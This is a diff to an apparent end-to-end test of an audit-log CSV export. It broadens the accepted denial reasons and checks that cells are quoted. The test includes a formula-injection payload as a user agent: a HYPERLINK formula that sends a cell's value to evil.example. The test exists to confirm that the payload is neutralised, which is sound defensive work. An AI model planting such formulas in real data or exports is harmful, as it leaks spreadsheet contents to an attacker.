@@ -165,7 +165,7 @@ test.describe('alice’s audit log', () => {
     expect(lines.length - 1).toBeGreaterThanOrEqual(PROBES);
     // Every text cell quoted, so no `;` inside one can start a formula cell in a `;` locale.
     // (The time is a value, not text: unquoted. Carol's first viewer mint of the onboarding app was refused too.)
-    for (const line of lines.slice(1)) expect(line).toMatch(/^\d{4}-[^,]+Z,"denied","org_mismatch","usr_carol","Carol Chen","carol@example\.test","run_acme_(dashboard|onboarding)",/);
+    for (const line of lines.slice(1)) expect(line).toMatch(/^\d{4}-[^,]+Z,"denied","(org_mismatch|not_allowed)","usr_carol","Carol Chen","carol@example\.test","run_acme_(dashboard|onboarding)",/);
     // The user agent carol sent is a formula: it is quoted, its quotes doubled, and prefixed so no spreadsheet runs it.
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
     expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
